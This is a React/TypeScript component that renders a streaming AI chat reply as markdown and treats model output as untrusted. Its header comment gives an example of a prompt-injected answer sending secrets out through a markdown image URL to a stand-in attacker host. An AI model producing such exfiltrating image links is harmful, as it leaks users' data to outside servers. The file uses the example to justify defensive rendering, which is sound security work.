'use client';
/**
 * One top-level block of a reply, rendered with react-markdown + GFM. Memoised on its text: a
 * finished block is neither parsed nor rendered again while the reply grows after it.
 *
 * Model output is untrusted. Raw HTML is never rendered as HTML (react-markdown shows it as
 * text); URLs go through `safeUrl` (http(s) and mailto only), and a link without one is plain
 * text; external links open in a new tab with no access to this one and no referrer. Images are
 * shown as links: loading them on sight would let a prompt-injected answer send data to any
 * server (`![](https://attacker/?q=secret)`).
 */
import { memo, useEffect, useState, type ComponentProps } from 'react';
import ReactMarkdown, { type Components, type ExtraProps, type UrlTransform } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { hasMath } from '@/lib/markdown/math';
import { isWebUrl, safeUrl } from '@/lib/markdown/urls';
import { CodeBlock } from './code-block';

type MathPlugins = typeof import('./math');

const REMARK = [remarkGfm];
const REL = 'noopener noreferrer nofollow';

const urlTransform: UrlTransform = (url, _key, node) =>
  safeUrl(url, node.tagName === 'img' ? 'image' : 'link');

function Link({ href, title, children }: ComponentProps<'a'>) {
  if (!href) return <span>{children}</span>; // its URL was not safe
  return (
    <a href={href} title={title} target={isWebUrl(href) ? '_blank' : undefined} rel={REL}>
      {children}
    </a>
  );
}

function Image({ src, alt }: ComponentProps<'img'>) {
  const label = alt || 'image';
  if (typeof src !== 'string' || !src) return <span>[{label}]</span>;
  return (
    <a href={src} target="_blank" rel={REL}>
      [image: {label}]
    </a>
  );
}

/*
 * Right-to-left text: each block element takes its direction from its own first strong letter
 * (`dir="auto"`, as ChatGPT does), so an Arabic paragraph reads right to left beside an English
 * one. Lists take it as a whole (`dir="auto"` skips descendants with their own `dir`, so items
 * go without); code blocks stay left to right (CodeBlock).
 */
type Props<T extends 'p' | 'ul' | 'ol' | 'h1' | 'h2' | 'h3' | 'h4' | 'h5' | 'h6' | 'table'> =
  ComponentProps<T> & ExtraProps;
const AUTO = {
  p: ({ node: _n, ...p }: Props<'p'>) => <p dir="auto" {...p} />,
  ul: ({ node: _n, ...p }: Props<'ul'>) => <ul dir="auto" {...p} />,
  ol: ({ node: _n, ...p }: Props<'ol'>) => <ol dir="auto" {...p} />,
  h1: ({ node: _n, ...p }: Props<'h1'>) => <h1 dir="auto" {...p} />,
  h2: ({ node: _n, ...p }: Props<'h2'>) => <h2 dir="auto" {...p} />,
  h3: ({ node: _n, ...p }: Props<'h3'>) => <h3 dir="auto" {...p} />,
  h4: ({ node: _n, ...p }: Props<'h4'>) => <h4 dir="auto" {...p} />,
  h5: ({ node: _n, ...p }: Props<'h5'>) => <h5 dir="auto" {...p} />,
  h6: ({ node: _n, ...p }: Props<'h6'>) => <h6 dir="auto" {...p} />,
  // Wider than the column (many columns, a phone): it scrolls sideways in its own box, which
  // the keyboard can reach too.
  table: ({ node: _n, ...p }: Props<'table'>) => (
    <div className="table-scroll" tabIndex={0}>
      <table dir="auto" {...p} />
    </div>
  ),
} satisfies Components;

/** Which react-markdown components to use: code blocks know whether their block is final. */
function components(final: boolean): Components {
  return {
    ...AUTO,
    a: Link,
    img: Image,
    pre: ({ node }) => {
      const code = node?.children[0];
      if (code?.type !== 'element' || code.tagName !== 'code') return null;
      const text = code.children.map((c) => (c.type === 'text' ? c.value : '')).join('');
      const classes = code.properties.className;
      const info = Array.isArray(classes)
        ? String(classes.find((c) => String(c).startsWith('language-')) ?? '').slice(9)
        : '';
      return <CodeBlock code={text.replace(/\n$/, '')} info={info || undefined} final={final} />;
    },
  };
}
const FINAL = components(true);
const GROWING = components(false);

/** KaTeX's plugins, once a block with math has asked for them. */
let mathPlugins: MathPlugins | null = null;
let mathLoading: Promise<MathPlugins> | null = null;

function useMath(needed: boolean): MathPlugins | null {
  const [plugins, setPlugins] = useState(mathPlugins);
  useEffect(() => {
    if (!needed || plugins) return;
    let live = true;
    mathLoading ??= import('./math').then(
      (m) => (mathPlugins = m),
      (error: unknown) => {
        mathLoading = null; // offline: math stays as its source; a later block tries again
        throw error;
      },
    );
    mathLoading.then(
      (m) => live && setPlugins(m),
      () => {},
    );
    return () => {
      live = false;
    };
  }, [needed, plugins]);
  return needed ? plugins : null;
}

/**
 * Characters handed to the markdown parser so far, on `window.__streamchatMarkdown`: the
 * benchmark divides it by the answer's length to show that finished blocks are not re-parsed.
 */
const stats = { parsedChars: 0 };
if (typeof window !== 'undefined') {
  (window as unknown as { __streamchatMarkdown: typeof stats }).__streamchatMarkdown = stats;
}
function noteParsed(chars: number): void {
  stats.parsedChars += chars;
}

export const MarkdownBlock = memo(function MarkdownBlock({
  text,
  growing,
}: {
  text: string;
  /** The last block of a streaming reply: its code blocks may still grow. */
  growing: boolean;
}) {
  // Until KaTeX has loaded, math shows as its source for a moment.
  const math = useMath(hasMath(text));
  noteParsed(text.length);
  return (
    <ReactMarkdown
      remarkPlugins={math ? [...REMARK, ...math.remarkPlugins] : REMARK}
      rehypePlugins={math?.rehypePlugins}
      components={growing ? GROWING : FINAL}
      urlTransform={urlTransform}
    >
      {text}
    </ReactMarkdown>
  );
});
